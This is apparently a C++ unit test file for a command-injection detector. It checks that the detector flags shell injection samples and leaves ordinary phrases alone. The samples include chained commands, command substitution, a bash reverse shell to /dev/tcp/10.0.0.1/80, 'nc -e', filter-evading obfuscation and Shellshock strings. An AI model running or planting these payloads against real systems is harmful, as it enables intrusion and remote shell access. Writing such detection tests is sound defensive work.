#include <gtest/gtest.h>

#include "inspect/attack/testing.h"

namespace firebreak::inspect {
namespace {

TEST(Shell, FindsChains) {
  for (const char* const text : {
           R"~(x; ls -la)~",
           R"~(x | cat /etc/hosts)~",
           R"~(x && whoami)~",
           R"~(x||id)~",
           R"~(x
id)~",
           R"~(& ping -c 3 10.0.0.1 &)~",
           R"~(|dir c:\)~",
           R"~(x;wget http://h/x)~",
           R"~(; sleep 5)~",
           R"~(x; uname)~",
           R"~(a; c=$(id))~",
       }) {
    EXPECT_TRUE(Finds(Rule::kCommandChain, text)) << text << ": " << RulesOf(text);
  }
}

TEST(Shell, FindsSubstitutions) {
  for (const char* const text : {
           R"~($(id))~",
           R"~($(cat /etc/x))~",
           R"~(x`id`)~",
           R"~(`curl h`)~",
           R"~($((5+7)))~",
           R"~(<(curl -s http://h))~",
           R"~("$(whoami)")~",
       }) {
    EXPECT_TRUE(Finds(Rule::kCommandSubstitution, text)) << text << ": " << RulesOf(text);
  }
}

TEST(Shell, FindsWhatOnlyAShellReads) {
  for (const char* const text : {
           R"~(cat${IFS}x)~",
           R"~(bash -i >& /dev/tcp/10.0.0.1/80 0>&1)~",
           R"~(nc -e x)~",
           R"~(cmd.exe /c dir)~",
           R"~(x | sh)~",
           R"~(powershell -enc AAAA)~",
       }) {
    EXPECT_TRUE(Finds(Rule::kCommandShell, text)) << text << ": " << RulesOf(text);
  }
}

TEST(Shell, FindsProgramsByPath) {
  for (const char* const text : {
           R"~(/bin/cat x)~",
           R"~(/usr/bin/id)~",
           R"~(;/sbin/ifconfig)~",
           R"~(x=/usr/local/bin/python3 -c)~",
       }) {
    EXPECT_TRUE(Finds(Rule::kCommandPath, text)) << text << ": " << RulesOf(text);
  }
}

TEST(Shell, FindsHiddenCommands) {
  for (const char* const text : {
           R"~(; c'a't /x)~",
           R"~(; w\hoami)~",
           R"~(|ca""t /x)~",
           R"~(/???/??t /x)~",
           R"~(; u$@name -a)~",
           R"~(& who^ami)~",
       }) {
    EXPECT_TRUE(Finds(Rule::kCommandHidden, text)) << text << ": " << RulesOf(text);
  }
}

TEST(Shell, FindsShellshock) {
  for (const char* const text : {
           R"~(() { :; }; echo x)~",
           R"~(() { x; })~",
           R"~(() { _; } >_[$($())] { id; })~",
       }) {
    EXPECT_TRUE(Finds(Rule::kCommandFunction, text)) << text << ": " << RulesOf(text);
  }
}

TEST(Shell, FindsCommandLines) {
  for (const char* const text : {
           R"~(cat /etc/x)~",
           R"~(wget http://h/x)~",
           R"~(curl -o x http://h)~",
           R"~(ping -n 3 h)~",
           R"~(dir c:\)~",
       }) {
    EXPECT_TRUE(Finds(Rule::kCommandAlone, text)) << text << ": " << RulesOf(text);
  }
}

TEST(Shell, LeavesSentencesAlone) {
  for (const char* const text : {
           R"~(bread & butter)~",
           R"~(cats; find out more)~",
           R"~(this | that)~",
           R"~(black & white)~",
           R"~(curl and divergence)~",
           R"~(find the best)~",
           R"~(cut & sew)~",
           R"~(tea; more)~",
           R"~(R&D)~",
           R"~(A & E)~",
           R"~(Smith & Sons; est. 1890)~",
           R"~(less is more)~",
           R"~(who am I)~",
           R"~(zsh is the best!)~",
           R"~(make it so)~",
           R"~(the id of x)~",
           R"~(AT&T)~",
           R"~(sort by: date)~",
           R"~(Mozilla/5.0 (X11; Linux x86_64; rv:105.0))~",
           R"~(5 & 6)~",
           R"~(date & time)~",
           R"~(a;b;c)~",
           R"~(rock & cat)~",
           R"~($(document))~",
           R"~($('#id'))~",
           R"~(price: $5 (net))~",
           R"~(time | date)~",
           R"~(type: `id`)~",
           R"~(a=1&id=5&sort=x)~",
           R"~(line one
find me
sort it)~",
           R"~(head & shoulders)~",
           R"~(Error:
    at https://example.org/x.js:2:3)~",
           R"~(first line
last line)~",
           R"~(kill bill)~",
           R"~(top 10 & more)~",
           R"~(host a party)~",
           R"~(dash (punctuation))~",
       }) {
    EXPECT_LT(ScoreOf(text), kCritical) << text << ": " << RulesOf(text);
  }
}

}  // namespace
}  // namespace firebreak::inspect
